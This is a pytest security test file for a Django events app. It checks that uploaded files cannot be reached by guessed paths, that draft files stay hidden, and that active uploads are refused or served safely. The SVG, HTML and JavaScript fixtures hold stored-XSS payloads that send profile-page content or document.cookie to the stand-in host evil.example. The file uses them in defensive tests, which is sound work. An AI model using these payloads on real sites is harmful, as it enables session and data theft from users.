"""Issue #12 tried as an attacker against the events app, with the test client: as an
anonymous visitor and as a plain member nothing stored can be fetched by a path built
from public data, an organiser's upload can never become a page that runs script, and
what is served back cannot run."""

import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from events import services
from events.models import Event, Material
from tests.events.factories import EventFactory, MaterialFactory, PhotoFactory, UserFactory

pytestmark = pytest.mark.django_db

SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/en/accounts/profile/\')'
       b'.then(r=>r.text()).then(t=>new Image().src=\'https://evil.example/?\'+t)"/>')
HTML = (b"<!doctype html><html><body><script>fetch('/en/accounts/profile/')"
        b".then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)"
        b"</script></body></html>")


@pytest.fixture(params=["anonymous", "member"])
def attacker(request, client):
    if request.param == "member":
        client.force_login(UserFactory(username="mallory", roles=["volunteer"]))
    return client


@pytest.fixture
def stored(organiser):
    """A public event and a draft, each with an uploaded material and photo."""
    public = EventFactory(organisers=[organiser])
    draft = EventFactory(status=Event.Status.DRAFT, organisers=[organiser])
    return {
        "public": public, "draft": draft,
        "files": [MaterialFactory(event=public), PhotoFactory(event=public),
                  MaterialFactory(event=draft), PhotoFactory(event=draft)],
    }


def _stored_names(stored) -> list[str]:
    names = []
    for obj in stored["files"]:
        if isinstance(obj, Material):
            names.append(obj.file.name)
        else:
            names += [obj.image.name, obj.thumbnail.name]
    return names


def test_no_stored_file_is_reachable_by_a_path_built_from_public_data(attacker, stored):
    public = stored["public"]
    page = attacker.get(public.get_absolute_url()).content.decode()
    api = APIClient().get(f"/api/v1/events/{public.slug}/").content.decode()
    seen = page + api
    # the stored names, random or not, appear nowhere a visitor can read
    for name in _stored_names(stored):
        assert Path(name).stem not in seen
    # and no path a visitor could build from what they see reaches a file
    candidates = ["/media/" + name for name in _stored_names(stored)]
    for event in (public, stored["draft"]):
        for folder, filename in (("materials", "slides.pdf"), ("photos", "room.jpg"),
                                 ("thumbs", "room-thumb.jpg")):
            candidates.append(f"/media/events/{event.pk}/{folder}/{filename}")
            candidates.append(f"/en/media/events/{event.pk}/{folder}/{filename}")
    for href in re.findall(r'(?:href|src)="(/[a-z-]+/events/[^"?]+)"', page):
        candidates.append(href.replace("/events/", "/media/events/", 1))
    for url in candidates:
        assert attacker.get(url).status_code == 404, url


def test_a_drafts_files_are_not_found_even_through_the_views(attacker, stored):
    _m, _p, material, photo = stored["files"]
    for url in (material.file_url, photo.src, photo.thumb_src,
                reverse("events:material", kwargs={"slug": stored["draft"].slug,
                                                   "pk": material.pk})):
        assert attacker.get(url).status_code == 404, url


def test_ids_of_another_event_do_not_reach_a_draft_file(attacker, stored):
    """The public event's slug with the draft's ids: still not found."""
    public = stored["public"]
    _m, _p, material, photo = stored["files"]
    for name, pk in (("events:material_file", material.pk), ("events:photo", photo.pk),
                     ("events:photo_thumb", photo.pk)):
        url = reverse(name, kwargs={"slug": public.slug, "pk": pk})
        assert attacker.get(url).status_code == 404, url


@pytest.mark.parametrize(("name", "data", "kind"), [
    ("page.html", HTML, "slides"),
    ("logo.svg", SVG, "slides"),
    ("logo.png", SVG, "slides"),  # a disguised SVG
    ("notes.txt", HTML, "code"),
    ("app.js", b"new Image().src='https://evil.example/?'+document.cookie", "code"),
    ("slides.pdf", HTML, "slides"),
])
def test_an_active_file_uploaded_as_a_material_is_refused(client, organiser, settings, name,
                                                          data, kind):
    event = EventFactory(organisers=[organiser])
    client.force_login(organiser)
    response = client.post(
        reverse("events:material_add", kwargs={"slug": event.slug}),
        {"title": "Deck", "kind": kind,
         "file": SimpleUploadedFile(name, data, content_type="image/svg+xml")})
    assert response.status_code == 200
    page = response.content.decode()
    assert f"{name}:" in page or f"{name} " in page
    assert not Material.objects.exists()
    assert not any(p.is_file() for p in Path(settings.MEDIA_ROOT).rglob("*"))


def test_an_svg_photo_is_refused(client, organiser):
    event = EventFactory(organisers=[organiser])
    client.force_login(organiser)
    response = client.post(reverse("events:photos_upload", kwargs={"slug": event.slug}),
                           {"photos": [SimpleUploadedFile("fin.svg", SVG)]})
    assert "fin.svg was not saved" in response.content.decode()
    assert not event.photos.exists()


@pytest.mark.parametrize(("name", "data", "kind", "content_type"), [
    ("deck.pdf", b"%PDF-1.4 deck", "slides", "application/pdf"),
    ("train.py", b"print('hello')\n", "code", "text/plain; charset=utf-8"),
    ("demo.ipynb", b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
     "notebook", "application/x-ipynb+json"),
])
def test_a_material_served_back_cannot_run(attacker, organiser, name, data, kind,
                                           content_type):
    event = EventFactory(organisers=[organiser])
    material = services.material_add(actor=organiser, event=event, title="M", kind=kind,
                                     upload=SimpleUploadedFile(name, data))
    response = attacker.get(material.file_url)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment")
    assert f'filename="{name}"' in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == data


def test_the_site_has_no_media_url(attacker, stored):
    from django.urls import Resolver404, resolve

    for path in ("/media/x.html", "/en/media/x.html"):
        with pytest.raises(Resolver404):
            resolve(path)
